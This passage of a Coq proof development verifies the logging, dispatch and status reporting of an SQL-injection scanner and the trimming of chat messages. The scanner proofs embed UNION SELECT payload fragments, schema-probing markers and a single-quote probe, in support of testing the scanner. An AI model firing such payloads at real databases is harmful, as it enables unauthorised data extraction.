  { unfold rest. apply List.Forall_forall. intros x Hx.
    apply List.in_map_iff in Hx as (i & <- & Hi).
    apply List.in_map_iff in Hi as (j & <- & Hj).
    apply List.in_seq in Hj.
    destruct (Z.of_nat j + 1 =? 2) eqn:Hj2; [apply Z.eqb_eq in Hj2; lia | reflexivity]. }
  clearbody rest.
  destruct rest as [|y rest].
  - exists EmptyString. split; [|reflexivity].
    rewrite string_append_nil_r. reflexivity.
  - exists ("," ++ PyStr.join "," (y :: rest)). split.
    + reflexivity.
    + apply (commas_and_ones_app "," _); [reflexivity | apply join_ones, Hrest].
Qed.

Lemma string_append_assoc (a b c : string) : ((a ++ b) ++ c = a ++ b ++ c)%string.
Proof. induction a as [|x a IH]; simpl; [reflexivity | rewrite IH; reflexivity]. Qed.

(** A second part with which the adjusted payload is not handed to
    [_analyze_columns]: it holds the mark of an earlier analysis, or the
    payload holds no mark of a column name, whatever follows it. *)
Definition settled_part (part : string) : bool :=
  (PyStr.contains "version" part
   || PyStr.contains "database()" part || PyStr.contains "DB_NAME()" part
   || PyStr.contains "table_name" part
   || PyStr.contains "name FROM sysobjects" part
   || (let x := "' UNION SELECT 1," ++ part in
       negb (PyStr.contains "column_name" x)
       && negb (overlaps "column_name" x)
       && negb (PyStr.contains "name FROM syscolumns" x)
       && negb (overlaps "name FROM syscolumns" x)))%bool.

Lemma no_mark_after (p x t : string) :
  begins_with_letter p = true -> commas_and_ones t = true ->
  PyStr.contains p x = false -> overlaps p x = false ->
  PyStr.contains p (x ++ t) = false.
Proof.
  intros Hp Ht Hx Ho.
  destruct (PyStr.contains p (x ++ t)) eqn:E; [|reflexivity].
  apply contains_app_cases in E. destruct E as [E | [E | E]].
  - rewrite E in Hx. discriminate Hx.
  - rewrite E in Ho. discriminate Ho.
  - rewrite (contains_commas_and_ones p t Hp Ht) in E. discriminate E.
Qed.

Lemma adjusted_not_columns (part t : string) :
  settled_part part = true -> commas_and_ones t = true ->
  column_branch ("' UNION SELECT 1," ++ part ++ t) = false.
Proof.
  intros Hpart Ht. unfold settled_part in Hpart. cbv zeta in Hpart.
  assert (Hpos : forall p, PyStr.contains p part = true ->
            PyStr.contains p ("' UNION SELECT 1," ++ part ++ t) = true).
  { intros p H. apply contains_app_r, contains_app_l, H. }
  unfold column_branch.
  repeat (apply Bool.orb_true_iff in Hpart; destruct Hpart as [Hpart | Hpart]).
  - rewrite (Hpos _ Hpart). reflexivity.
  - rewrite (Hpos _ Hpart). apply Bool.andb_false_iff. left.
    apply Bool.andb_false_iff. left. apply Bool.andb_false_iff. right. reflexivity.
  - rewrite (Hpos _ Hpart). apply Bool.andb_false_iff. left.
    apply Bool.andb_false_iff. left. apply Bool.andb_false_iff. right.
    rewrite Bool.orb_true_r. reflexivity.
  - rewrite (Hpos _ Hpart). apply Bool.andb_false_iff. left.
    apply Bool.andb_false_iff. right. reflexivity.
  - rewrite (Hpos _ Hpart). apply Bool.andb_false_iff. left.
    apply Bool.andb_false_iff. right. rewrite Bool.orb_true_r. reflexivity.
  - apply Bool.andb_true_iff in Hpart as [Hpart H4].
    apply Bool.andb_true_iff in Hpart as [Hpart H3].
    apply Bool.andb_true_iff in Hpart as [H1 H2].
    apply Bool.negb_true_iff in H1, H2, H3, H4.
    rewrite <- (string_append_assoc "' UNION SELECT 1," part t).
    rewrite (no_mark_after "column_name" _ t eq_refl Ht H1 H2).
    rewrite (no_mark_after "name FROM syscolumns" _ t eq_refl Ht H3 H4).
    apply Bool.andb_false_r.
Qed.

(** A payload whose response is not handed to [_analyze_columns], as it
    is or adjusted to any number of columns. *)
Definition well_dispatched (value : string) : Prop :=
  column_branch value = false /\
  exists part,
    List.nth_error (comma_parts value) 1 = Some part /\
    settled_part (PyStr.strip part) = true.

Lemma payloads_well_dispatched (ty : string) :
  ty <> "mssql" -> List.Forall well_dispatched (db_info_payloads ty).
Proof.
  intros Hty. unfold db_info_payloads.
  destruct (String.eqb_spec ty "mssql") as [E | _]; [contradiction|].
  destruct (String.eqb ty "oracle");
    repeat (apply List.Forall_cons;
            [split; [vm_compute; reflexivity
                    | eexists; split; [vm_compute; reflexivity
                                      | vm_compute; reflexivity]]|]);
    apply List.Forall_nil.
Qed.

Lemma appends_value {A B : Type} (L : SQLInjectionTester.detail -> Prop) (n : nat)
    (o : outcome A) (k : A -> step B) :
  (forall x, o = Returns x -> appends L n (k x)) ->
  appends L n (bind (fun s => (o, s)) k).
Proof.
  intros Hk s. unfold bind. destruct o as [x|e].
  - apply Hk. reflexivity.
  - exists []. cbn [snd]. rewrite List.app_nil_r.
    split; [reflexivity|]. split; [simpl; lia | constructor].
Qed.

Lemma appends_extract_loop (ty sel : string) (payloads : list string) :
  (ty <> "mssql" -> List.Forall well_dispatched payloads) ->
  appends (db_info_entry ty) (List.length payloads) (extract_loop pg sel payloads).
Proof.
  induction payloads as [|value rest IH]; intros Hp; cbn [extract_loop List.length].
  - apply appends_still. reflexivity.
  - assert (Hrest : ty <> "mssql" -> List.Forall well_dispatched rest).
    { intros Hty. specialize (Hp Hty). inversion Hp; assumption. }
    assert (Hvalue : ty <> "mssql" -> well_dispatched value).
    { intros Hty. specialize (Hp Hty). inversion Hp; assumption. }
    specialize (IH Hrest).
    assert (Hstep : forall value',
              (ty <> "mssql" -> column_branch value' = false) ->
              appends (db_info_entry ty) (S (List.length rest))
                (bind (response pg sel value')
                      (fun info_content =>
                         bind (analyse value' info_content)
                              (fun _ => bind (leave pg)
                                          (fun _ => extract_loop pg sel rest))))).
    { intros value' Hv.
      apply (appends_bind (n := 0) (k := S (List.length rest)));
        [apply appends_frame, frame_response_log | intros content].
      apply (appends_bind (n := 1) (k := List.length rest));
        [apply appends_analyse, Hv | intros _].
      apply (appends_bind (n := 0) (k := List.length rest));
        [apply appends_frame, frame_leave_log | intros _].
      exact IH. }
    apply (appends_bind (n := 0) (k := S (List.length rest)));
      [apply appends_still; reflexivity | intros count].
    destruct (count >? 1) eqn:Hc.
    + apply appends_value. intros value' Hadj. apply Hstep. intros Hty.
      destruct (Hvalue Hty) as (_ & part & Hpart & Hsettled).
      apply Z.gtb_lt in Hc.
      destruct (adjusted_form value Hc Hpart) as (t & E & Ht).
      rewrite E in Hadj. injection Hadj as <-.
      apply adjusted_not_columns; assumption.
    + intros s. apply (Hstep value). intros Hty. apply (Hvalue Hty).
Qed.

Lemma frame_analyse_db_type (value content : string) :
  frame (db_type (W := W)) (analyse (W := W) value content).
Proof.
  unfold analyse, _analyze_db_version, _analyze_db_name, _analyze_tables,
    _analyze_columns, report_name.
  repeat match goal with
         | |- frame _ (if ?b then _ else _) => destruct b
         | |- frame _ (match ?o with Some _ => _ | None => _ end) => destruct o
         end;
    try (apply frame_lift; reflexivity); try apply frame_ret.
  apply frame_bind; [apply frame_read | intros ty].
  destruct (search _ _); [apply frame_lift; reflexivity | apply frame_ret].
Qed.

Lemma frame_extract_loop_db_type (sel : string) (payloads : list string) :
  frame (db_type (W := W)) (extract_loop pg sel payloads).
Proof.
  induction payloads as [|value rest IH]; cbn [extract_loop].
  - apply frame_ret.
  - apply frame_bind; [apply frame_read | intros count].
    apply frame_bind.
    { destruct (count >? 1); [intros s; reflexivity | apply frame_ret]. }
    intros value'.
    apply frame_bind; [apply frame_response_db_type | intros content].
    apply frame_bind; [apply frame_analyse_db_type | intros _].
    apply frame_bind; [apply frame_leave_db_type | intros _]. exact IH.
Qed.

Lemma db_info_payloads_length (ty : string) :
  (List.length (db_info_payloads ty) <= 5)%nat.
Proof.
  unfold db_info_payloads.
  destruct (String.eqb ty "mssql"); [simpl; lia|].
  destruct (String.eqb ty "oracle"); simpl; lia.
Qed.

(** X24.  Whatever the page answers, and whether it returns or raises,
    [_extract_database_info] adds at most five entries to the log of the
    test, each an information entry of the step [db_info] that reports a
    version, a database name or a table name; a column name is reported
    only when the database is taken for SQL Server.  For MySQL and Oracle
    the payload that asks for a column name is never handed to
    [_analyze_columns], with any column count: it holds [table_name], the
    mark of the analysis of the tables. *)
Theorem extraction_reports (p : SQLInjectionTester.input_point) (s : state) :
  let s' := snd (_extract_database_info pg p s) in
  exists new,
    s'.(tester).(SQLInjectionTester.test_details)
    = (s.(tester).(SQLInjectionTester.test_details) ++ new)%list /\
    (List.length new <= 5)%nat /\
    List.Forall
      (fun d =>
         d.(SQLInjectionTester.step_name) = "db_info" /\
         d.(SQLInjectionTester.status) = "info" /\
         (PyStr.startswith "数据库版本: " d.(SQLInjectionTester.message) = true \/
          PyStr.startswith "数据库名称: " d.(SQLInjectionTester.message) = true \/
          PyStr.startswith "表名: " d.(SQLInjectionTester.message) = true \/
          (s'.(db_type) = "mssql" /\
           PyStr.startswith "列名: " d.(SQLInjectionTester.message) = true)))
      new.
Proof.
  intros s'. set (sel := SQLInjectionTester.selector p).
  assert (Hs' : s' = match _determine_db_type pg sel s with
                     | (Returns _, s1) =>
                         snd (extract_loop pg sel (db_info_payloads (db_type s1)) s1)
                     | (Raises _, s1) => s1
                     end).
  { unfold s', _extract_database_info, bind, read. fold sel.
    destruct (_determine_db_type pg sel s) as [[[]|e] s1]; reflexivity. }
  clearbody s'. subst s'.
  pose proof (frame_determine_log sel s) as F.
  destruct (_determine_db_type pg sel s) as [[[]|e] s1]; cbn [snd] in F;
    unfold log_and_count in F; injection F as F _.
  - set (ty := db_type s1).
    assert (Hwell : ty <> "mssql" -> List.Forall well_dispatched (db_info_payloads ty))
      by apply payloads_well_dispatched.
    destruct (@appends_extract_loop ty sel (db_info_payloads ty) Hwell s1)
      as (new & E & Hl & Hnew).
    pose proof (frame_extract_loop_db_type sel (db_info_payloads ty) s1) as Fty.
    exists new. unfold log in E. rewrite E, F, Fty. split; [reflexivity|].
    split; [pose proof (db_info_payloads_length ty); lia | exact Hnew].
  - exists []. rewrite F, List.app_nil_r.
    split; [reflexivity|]. split; [simpl; lia | constructor].
Qed.

(** *** The calls of the page the run makes *)

















End OnPage.

Variable env : agent W.

(** The tester after [test_results["status"] = st], and after an entry of
    the log. *)
Definition with_status (st : string) (s : state) : state := snd (set_status st s).

Definition logged (n st text : string) (s : state) : state :=
  snd (record_test_result n st text s).

(** [test], branch by branch. *)
Lemma test_unfold (s : state) :
  test env s =
  let s0 := with_status "running" s in
  match env.(page) with
  | None =>
      let s1 := logged "init" "error" "浏览器页面未初始化" (with_status "error" s0) in
      (Returns (get_test_results s1), s1)
  | Some pg =>
      let s1 := logged "start" "info"
                  ("开始SQL注入测试，目标URL: "
                   ++ env.(page_url) s0.(tester).(SQLInjectionTester.world)) s0 in
      match collect env s1 with
      | (Raises e, s2) => (Raises e, s2)
      | (Returns input_points, s2) =>
          match input_points with
          | [] =>
              let s3 := with_status "no_input_points"
                          (logged "input_collection" "warning" "未发现任何输入点" s2) in
              (Returns (get_test_results s3), s3)
          | _ =>
              match test_points pg 0 input_points []
                      (logged "input_collection" "success"
                         ("发现 " ++ PyStr.of_Z (Z.of_nat (List.length input_points))
                          ++ " 个可能的输入点") s2) with
              | (Raises e, s3) => (Raises e, s3)
              | (Returns vulnerable_inputs, s3) =>
                  match vulnerable_inputs with
                  | [] =>
                      let s4 := logged "summary" "success" "未发现SQL注入漏洞"
                                  (with_status "secure" s3) in
                      (Returns (get_test_results s4), s4)
                  | _ =>
                      let s4 := logged "summary" "warning"
                                  ("发现 "
                                   ++ PyStr.of_Z (Z.of_nat (List.length vulnerable_inputs))
                                   ++ " 个存在SQL注入漏洞的输入点")
                                  (with_status "vulnerable" s3) in
                      (Returns (get_test_results s4), s4)
                  end
              end
          end
      end
  end.
Proof.
  unfold test, bind. cbv zeta.
  destruct (page env) as [pg|]; [|reflexivity].
  change (set_status "running" s) with (Returns tt, with_status "running" s).
  cbv iota. cbn [read].
  match goal with
  | |- context [record_test_result ?n ?st ?text ?s0] =>
      change (record_test_result n st text s0) with (Returns tt, logged n st text s0)
  end.
  cbv iota.
  destruct (collect env _) as [[input_points|e] s2]; [|reflexivity].
  destruct input_points as [|p0 rest0]; [reflexivity|].
  match goal with
  | |- context [record_test_result ?n ?st ?text s2] =>
      change (record_test_result n st text s2) with (Returns tt, logged n st text s2)
  end.
  cbv iota.
  destruct (test_points pg 0 (p0 :: rest0) [] _) as [[found|e] s3]; [|reflexivity].
  destruct found; reflexivity.
Qed.


(** X15.  When [test] returns, its value is the summary of the tester it
    leaves; the findings of the run are added to [found_vulnerabilities]
    and to [vulnerable_points] alike, each of the kind [sql_injection] on
    an input point marked vulnerable; and the status is [error] without a
    page, [no_input_points] when the agent collects none, and otherwise
    [vulnerable] when the run added a finding and [secure] when it added
    none. *)
Theorem test_status_and_findings (s s' : state) (report : summary) :
  test env s = (Returns report, s') ->
  report = get_test_results s' /\
  exists new,
    s'.(found_vulnerabilities) = (s.(found_vulnerabilities) ++ new)%list /\
    s'.(vulnerable_points) = (s.(vulnerable_points) ++ new)%list /\
    List.Forall (fun v => v.(kind) = "sql_injection" /\
                          v.(input_point).(SQLInjectionTester.is_vulnerable) = true)
                new /\
    s'.(status)
    = match env.(page) with
      | None => "error"
      | Some _ =>
          match fst (env.(collect_input_points)
                       s.(tester).(SQLInjectionTester.world)) with
          | Returns [] => "no_input_points"
          | _ => match new with [] => "secure" | _ => "vulnerable" end
          end
      end.
Proof.
  intros H. rewrite test_unfold in H. cbv zeta in H.
  destruct (page env) as [pg|].
  2:{ injection H as <- <-. split; [reflexivity|].
      exists []. rewrite !List.app_nil_r. repeat split; auto. }
  unfold collect in H.
  change (SQLInjectionTester.world
            (tester (logged "start" "info"
                       ("开始SQL注入测试，目标URL: "
                        ++ page_url env
                             (SQLInjectionTester.world
                                (tester (with_status "running" s))))
                       (with_status "running" s))))
    with (SQLInjectionTester.world (tester s)) in H.
  destruct (collect_input_points env (SQLInjectionTester.world (tester s)))
    as [[input_points|e] w]; [|discriminate].
  cbn [fst].
  destruct input_points as [|p0 rest0].
  { injection H as <- <-. split; [reflexivity|].
    exists []. rewrite !List.app_nil_r. repeat split; auto. }
  match type of H with
  | context [test_points pg 0 (p0 :: rest0) [] ?s0] =>
      pose proof (@test_points_findings pg (p0 :: rest0) 0 [] s0) as Hloop;
      destruct (test_points pg 0 (p0 :: rest0) [] s0) as [[found|e] s1];
      [|discriminate]
  end.
  destruct (Hloop s1 found eq_refl) as (new & A & B & C & D & E).
  change (found = List.map input_point new) in C.
  assert (A' : s1.(found_vulnerabilities) = (s.(found_vulnerabilities) ++ new)%list)
    by exact A.
  assert (B' : s1.(vulnerable_points) = (s.(vulnerable_points) ++ new)%list)
    by exact B.
  assert (Hend : s'.(found_vulnerabilities) = s1.(found_vulnerabilities) /\
                 s'.(vulnerable_points) = s1.(vulnerable_points) /\
                 report = get_test_results s' /\
                 s'.(status) = match new with [] => "secure" | _ => "vulnerable" end).
  { rewrite C in H. destruct new as [|v new]; cbn [List.map] in H;
      injection H as <- <-; repeat split; reflexivity. }
  destruct Hend as (F1 & F2 & F3 & F4).
  split; [exact F3|]. exists new.
  rewrite F1, F2, F4, A', B'. repeat split; auto.
Qed.

End RunFacts.

(** The quote on the search form: the response holds an SQL error, the
    result is marked vulnerable and the page is left by [go_back]. *)
Lemma verify_vulnerability_outcome_witness :
  let done := SQLInjectionTester.verify_vulnerability Scenarios.leaky_page
                "[name='q']" "'" Scenarios.fresh_tester in
  exists before,
    (snd done).(SQLInjectionTester.calls)
    = (before ++ [SQLInjectionTester.GoBack])%list.
Proof.
  intros done.
  destruct (@verify_vulnerability_outcome _ Scenarios.leaky_page "[name='q']" "'"
              Scenarios.fresh_tester (snd done)
              {| SQLInjectionTester.vulnerable := true;
                 SQLInjectionTester.details := "载荷触发了SQL错误";
                 SQLInjectionTester.payload := "'";
                 SQLInjectionTester.columns := 0 |})
    as (_ & _ & H & _).
  - vm_compute. reflexivity.
  - exact H.
Defined.

(** The run on the search form: one finding, on the text input, and the
    status [vulnerable]. *)
Lemma test_status_and_findings_witness :
  let done := SQLInjectionRun.test Scenarios.search_agent Scenarios.fresh_run in
  (snd done).(SQLInjectionRun.status) = "vulnerable" /\
  List.length (snd done).(SQLInjectionRun.found_vulnerabilities) = 1%nat.
Proof.
  intros done.
  destruct (@test_status_and_findings _ Scenarios.search_agent Scenarios.fresh_run
              (snd done) (SQLInjectionRun.get_test_results (snd done)))
    as (_ & new & Hfound & _ & _ & Hstatus).
  - vm_compute. reflexivity.
  - assert (Hnew : List.length new = 1%nat).
    { apply (f_equal (@List.length _)) in Hfound.
      assert (Hone : List.length (snd done).(SQLInjectionRun.found_vulnerabilities)
                     = 1%nat) by (vm_compute; reflexivity).
      rewrite Hone in Hfound. simpl in Hfound. lia. }
    split.
    + rewrite Hstatus. destruct new; [discriminate | reflexivity].
    + vm_compute. reflexivity.
Defined.

(** On the search form every probe of the recognition meets an error:
    the type stays mysql. *)
Lemma determine_db_type_outcome_witness :
  let done := SQLInjectionRun._determine_db_type Scenarios.leaky_page "[name='q']"
                Scenarios.fresh_run in
  List.In (snd done).(SQLInjectionRun.db_type) ["mysql"; "mssql"; "oracle"] /\
  (snd done).(SQLInjectionRun.db_type) = "mysql".
Proof.
  intros done.
  destruct (@determine_db_type_outcome _ Scenarios.leaky_page "[name='q']"
              Scenarios.fresh_run (snd done)) as (H & _).
  - vm_compute. reflexivity.
  - split; [exact H | vm_compute; reflexivity].
Defined.

(** ** The trimming of the messages *)

Section ConversationFacts.

Import Conversation.

Lemma len_nonneg (s : string) : 0 <= PyStr.len s.
Proof. induction s as [|c s IH]; simpl; [lia | destruct (PyStr.is_continuation c); lia]. Qed.

Lemma fold_chars_from (l : list message) (acc : Z) :
  List.fold_left (fun acc m => acc + PyStr.len (content m)) l acc
  = acc + total_chars l.
Proof.
  unfold total_chars. revert acc.
  induction l as [|m l IH]; intros acc; simpl; [lia|].
  rewrite IH, (IH (PyStr.len (content m))). lia.
Qed.

Lemma total_chars_cons (m : message) (l : list message) :
  total_chars (m :: l) = PyStr.len (content m) + total_chars l.
Proof. unfold total_chars at 1. simpl. apply fold_chars_from. Qed.

Lemma total_chars_app (a b : list message) :
  total_chars (a ++ b) = total_chars a + total_chars b.
Proof.
  induction a as [|m a IH]; [reflexivity|].
  simpl. rewrite !total_chars_cons, IH. lia.
Qed.

Lemma total_chars_nonneg (l : list message) : 0 <= total_chars l.
Proof.
  induction l as [|m l IH]; [unfold total_chars; simpl; lia|].
  rewrite total_chars_cons. pose proof (len_nonneg (content m)). lia.
Qed.

Lemma total_chars_rev (l : list message) : total_chars (List.rev l) = total_chars l.
Proof.
  induction l as [|m l IH]; [reflexivity|].
  simpl. rewrite total_chars_app, !total_chars_cons, IH.
  unfold total_chars at 2. simpl. lia.
Qed.

Lemma enumerate_from_snoc (l : list message) (x : message) (i : Z) :
  enumerate_from i (l ++ [x])
  = (enumerate_from i l ++ [(i + Z.of_nat (List.length l), x)])%list.
Proof.
  revert i. induction l as [|m l IH]; intros i; simpl.
  - rewrite Z.add_0_r. reflexivity.
  - rewrite IH. replace (i + 1 + Z.of_nat (List.length l))
      with (i + Z.pos (Pos.of_succ_nat (List.length l))) by lia.
    reflexivity.
Qed.

Lemma backwards_snoc (l : list message) (x : message) :
  backwards (l ++ [x]) = (Z.of_nat (List.length l), x) :: backwards l.
Proof.
  unfold backwards. rewrite enumerate_from_snoc, List.rev_app_distr. reflexivity.
Qed.

Lemma backwards_index (l : list message) (i : Z) (m : message) :
  List.In (i, m) (backwards l) -> 0 <= i < Z.of_nat (List.length l).
Proof.
  induction l as [|x l IH] using List.rev_ind; [intros []|].
  rewrite backwards_snoc, List.length_app. simpl.
  intros [H | H]; [inversion H; lia | apply IH in H; lia].
Qed.

(** The first loop finds the last message with an HTML block. *)
Lemma latest_html_found (pre post : list message) (h : message) :
  holds_html h = true ->
  List.Forall (fun m => holds_html m = false) post ->
  latest_html (pre ++ h :: post) = Some (Z.of_nat (List.length pre), h).
Proof.
  intros Hh Hpost. unfold latest_html.
  induction post as [|x post IH] using List.rev_ind.
  - rewrite backwards_snoc. simpl. rewrite Hh. reflexivity.
  - apply List.Forall_app in Hpost as [Hpost Hx].
    replace (pre ++ h :: post ++ [x])%list with ((pre ++ h :: post) ++ [x])%list
      by (rewrite <- List.app_assoc; reflexivity).
    rewrite backwards_snoc. simpl.
    inversion Hx as [|? ? Hx' _]; subst. rewrite Hx'. apply IH, Hpost.
Qed.

Lemma latest_html_none (l : list message) :
  List.Forall (fun m => holds_html m = false) l -> latest_html l = None.
Proof.
  unfold latest_html.
  induction l as [|x l IH] using List.rev_ind; [reflexivity|].
  intros H. apply List.Forall_app in H as [Hl Hx].
  rewrite backwards_snoc. simpl.
  inversion Hx as [|? ? Hx' _]; subst. rewrite Hx'. apply IH, Hl.
Qed.

Lemma latest_html_split (l : list message) (i : Z) (h : message) :
  latest_html l = Some (i, h) ->
  exists pre post,
    l = (pre ++ h :: post)%list /\ i = Z.of_nat (List.length pre) /\
    holds_html h = true /\ List.Forall (fun m => holds_html m = false) post.
Proof.
  unfold latest_html.
  induction l as [|x l IH] using List.rev_ind; [discriminate|].
  rewrite backwards_snoc. simpl.
  destruct (holds_html x) eqn:Hx.
  - intros H. inversion H; subst. exists l, []. repeat split; auto.
  - intros H. destruct (IH H) as (pre & post & -> & -> & Hh & Hpost).
    exists pre, (post ++ [x])%list. repeat split; auto.
    + rewrite <- List.app_assoc. reflexivity.
    + apply List.Forall_app. split; [exact Hpost | constructor; auto].
Qed.

Lemma latest_html_or_none (l : list message) :
  latest_html l = None -> List.Forall (fun m => holds_html m = false) l.
Proof.
  unfold latest_html.
  induction l as [|x l IH] using List.rev_ind; [constructor|].
  rewrite backwards_snoc. simpl.
  destruct (holds_html x) eqn:Hx; [discriminate|].
  intros H. apply List.Forall_app. split; [apply IH, H | constructor; auto].
Qed.

(** The accumulator of the second loop is a prefix of its result. *)
Lemma recent_scan_acc (idx : Z) (l : list (Z * message)) :
  forall u a acc,
    recent_scan idx l u a acc = (acc ++ recent_scan idx l u a [])%list.
Proof.
  induction l as [|[i m] l IH]; intros u a acc; simpl.
  - rewrite List.app_nil_r. reflexivity.
  - destruct (i =? idx); [apply IH|].
    destruct (has_role "user" m && negb u)%bool.
    + simpl. destruct a.
      * reflexivity.
      * rewrite IH, (IH _ _ [m]), <- List.app_assoc. reflexivity.
    + destruct (has_role "assistant" m && negb a)%bool.
      * destruct u; simpl.
        -- reflexivity.
        -- rewrite IH, (IH _ _ [m]), <- List.app_assoc. reflexivity.
      * destruct (u && a)%bool; [rewrite List.app_nil_r; reflexivity | apply IH].
Qed.

(** The messages the second loop looks at: all but the HTML message, from
    the last one down. *)
Definition others (idx : Z) (l : list (Z * message)) : list message :=
  List.map snd (List.filter (fun e => negb (fst e =? idx)) l).

Definition olist (o : option message) : list message :=
  match o with Some m => [m] | None => [] end.

Definition either (m : message) : bool :=
  (has_role "user" m || has_role "assistant" m)%bool.

Definition other_role (m : message) : string :=
  if has_role "user" m then "assistant" else "user".

Lemma user_not_assistant (m : message) :
  has_role "user" m = true -> has_role "assistant" m = false.
Proof.
  unfold has_role. intros H. apply String.eqb_eq in H. rewrite H. reflexivity.
Qed.

Lemma scan_both_found (idx : Z) (l : list (Z * message)) :
  recent_scan idx l true true [] = [].
Proof.
  induction l as [|[i m] l IH]; simpl; [reflexivity|].
  destruct (i =? idx); [exact IH|].
  rewrite !Bool.andb_false_r. reflexivity.
Qed.

Lemma scan_user_found (idx : Z) (l : list (Z * message)) :
  recent_scan idx l true false []
  = olist (List.find (has_role "assistant") (others idx l)).
Proof.
  unfold others.
  induction l as [|[i m] l IH]; simpl; [reflexivity|].
  destruct (i =? idx); simpl; [exact IH|].
  rewrite Bool.andb_false_r, Bool.andb_true_r.
  destruct (has_role "assistant" m); simpl; [reflexivity | exact IH].
Qed.

Lemma scan_assistant_found (idx : Z) (l : list (Z * message)) :
  recent_scan idx l false true []
  = olist (List.find (has_role "user") (others idx l)).
Proof.
  unfold others.
  induction l as [|[i m] l IH]; simpl; [reflexivity|].
  destruct (i =? idx); simpl; [exact IH|].
  rewrite Bool.andb_true_r, Bool.andb_false_r.
  destruct (has_role "user" m); simpl; [reflexivity | exact IH].
Qed.

(** The second loop in closed form: the first user or assistant message
    met, then the first message of the other role. *)
Lemma scan_closed_form (idx : Z) (l : list (Z * message)) :
  recent_scan idx l false false []
  = match List.find either (others idx l) with
    | None => []
    | Some m => m :: olist (List.find (has_role (other_role m)) (others idx l))
    end.
Proof.
  induction l as [|[i m] l IH]; simpl; [reflexivity|].
  unfold others in *. simpl.
  destruct (i =? idx); simpl; [exact IH|].
  unfold either at 1. rewrite !Bool.andb_true_r.
  destruct (has_role "user" m) eqn:Hu; simpl.
  - unfold other_role. rewrite Hu, (user_not_assistant m Hu).
    rewrite recent_scan_acc, scan_user_found. reflexivity.
  - destruct (has_role "assistant" m) eqn:Ha; simpl.
    + unfold other_role. rewrite !Hu.
      rewrite recent_scan_acc, scan_assistant_found. reflexivity.
    + rewrite IH. destruct (List.find either _) as [m1|]; [|reflexivity].
      unfold other_role. destruct (has_role "user" m1); [rewrite Ha | rewrite Hu];
        reflexivity.
Qed.

Lemma enumerate_from_app (a b : list message) (i : Z) :
  enumerate_from i (a ++ b)
  = (enumerate_from i a ++ enumerate_from (i + Z.of_nat (List.length a)) b)%list.
Proof.
  revert i. induction a as [|m a IH]; intros i; simpl.
  - rewrite Z.add_0_r. reflexivity.
  - rewrite IH. replace (i + 1 + Z.of_nat (List.length a))
      with (i + Z.pos (Pos.of_succ_nat (List.length a))) by lia.
    reflexivity.
Qed.

Lemma enumerate_from_keeps (idx : Z) (l : list message) (i : Z) :
  idx < i \/ i + Z.of_nat (List.length l) <= idx ->
  List.map snd (List.filter (fun e => negb (fst e =? idx)) (enumerate_from i l)) = l.
Proof.
  revert i. induction l as [|m l IH]; intros i H; simpl; [reflexivity|].
  simpl in H.
  destruct (i =? idx) eqn:E; [apply Z.eqb_eq in E; lia|].
  simpl. rewrite IH; [reflexivity | lia].
Qed.

(** With the index of the HTML message, the second loop looks at the
    other messages, from the last one down. *)
Lemma others_backwards (pre post : list message) (h : message) :
  others (Z.of_nat (List.length pre)) (backwards (pre ++ h :: post))
  = List.rev (pre ++ post).
Proof.
  unfold others, backwards.
  rewrite List.filter_rev, List.map_rev. f_equal.
  rewrite enumerate_from_app, List.filter_app, List.map_app. simpl.
  rewrite Z.eqb_refl. simpl.
  rewrite enumerate_from_keeps by lia.
  rewrite enumerate_from_keeps by lia.
  reflexivity.
Qed.

(** What the second loop keeps of the messages [O] it looks at. *)
Definition kept (O : list message) : list message :=
  match List.find either O with
  | None => []
  | Some m => m :: olist (List.find (has_role (other_role m)) O)
  end.

Lemma find_narrower (p q : message -> bool) (l : list message) (m : message) :
  (forall x, q x = true -> p x = true) ->
  List.find p l = Some m -> q m = true -> List.find q l = Some m.
Proof.
  intros Hqp. induction l as [|x l IH]; simpl; [discriminate|].
  destruct (p x) eqn:Hp.
  - intros H Hm. inversion H; subst. rewrite Hm. reflexivity.
  - intros H Hm. destruct (q x) eqn:Hq; [rewrite (Hqp x Hq) in Hp; discriminate|].
    apply IH; assumption.
Qed.

Lemma find_narrower_none (p q : message -> bool) (l : list message) :
  (forall x, q x = true -> p x = true) ->
  List.find p l = None -> List.find q l = None.
Proof.
  intros Hqp. induction l as [|x l IH]; simpl; [reflexivity|].
  destruct (p x) eqn:Hp; [discriminate|].
  destruct (q x) eqn:Hq; [rewrite (Hqp x Hq) in Hp; discriminate | exact IH].
Qed.

Lemma find_olist (p : message -> bool) (l : list message) :
  List.find p (olist (List.find p l)) = List.find p l.
Proof.
  destruct (List.find p l) as [x|] eqn:H; [|reflexivity].
  simpl. apply List.find_some in H as [_ H]. rewrite H. reflexivity.
Qed.

Lemma user_is_either (m : message) : has_role "user" m = true -> either m = true.
Proof. unfold either. intros ->. reflexivity. Qed.

Lemma assistant_is_either (m : message) :
  has_role "assistant" m = true -> either m = true.
Proof. unfold either. intros ->. apply Bool.orb_true_r. Qed.

Lemma assistant_not_user (m : message) :
  has_role "assistant" m = true -> has_role "user" m = false.
Proof.
  unfold has_role. intros H. apply String.eqb_eq in H. rewrite H. reflexivity.
Qed.

Lemma either_roles (m : message) :
  either m = true -> role m = "user" \/ role m = "assistant".
Proof.
  unfold either, has_role. intros H. apply Bool.orb_true_iff in H.
  destruct H as [H | H]; apply String.eqb_eq in H; auto.
Qed.

Lemma kept_spec (O : list message) :
  List.hd_error (kept O) = List.find either O /\
  List.find (has_role "user") (kept O) = List.find (has_role "user") O /\
  List.find (has_role "assistant") (kept O) = List.find (has_role "assistant") O /\
  (List.length (kept O) <= 2)%nat /\
  List.NoDup (List.map role (kept O)) /\
  List.Forall (fun m => (role m = "user" \/ role m = "assistant") /\ List.In m O)
    (kept O).
Proof.
  unfold kept. destruct (List.find either O) as [m1|] eqn:H1.
  - pose proof (List.find_some _ _ H1) as [Hin1 He1].
    split; [reflexivity|].
    destruct (has_role "user" m1) eqn:Hu.
    + pose proof (user_not_assistant m1 Hu) as Ha.
      unfold other_role. rewrite Hu. simpl. rewrite Hu, Ha.
      split; [symmetry; apply (find_narrower either); auto using user_is_either|].
      split; [apply find_olist|].
      destruct (List.find (has_role "assistant") O) as [m2|] eqn:H2; simpl.
      * pose proof (List.find_some _ _ H2) as [Hin2 Ha2].
        split; [lia|]. split.
        -- constructor; [|constructor; [intros []|constructor]].
           intros [E | []]. unfold has_role in Hu, Ha2.
           apply String.eqb_eq in Hu, Ha2. congruence.
        -- constructor; [split; [apply either_roles, He1 | exact Hin1]|].
           constructor; [|constructor].
           split; [apply either_roles, assistant_is_either, Ha2 | exact Hin2].
      * split; [lia|]. split; [constructor; [intros []|constructor]|].
        constructor; [split; [apply either_roles, He1 | exact Hin1] | constructor].
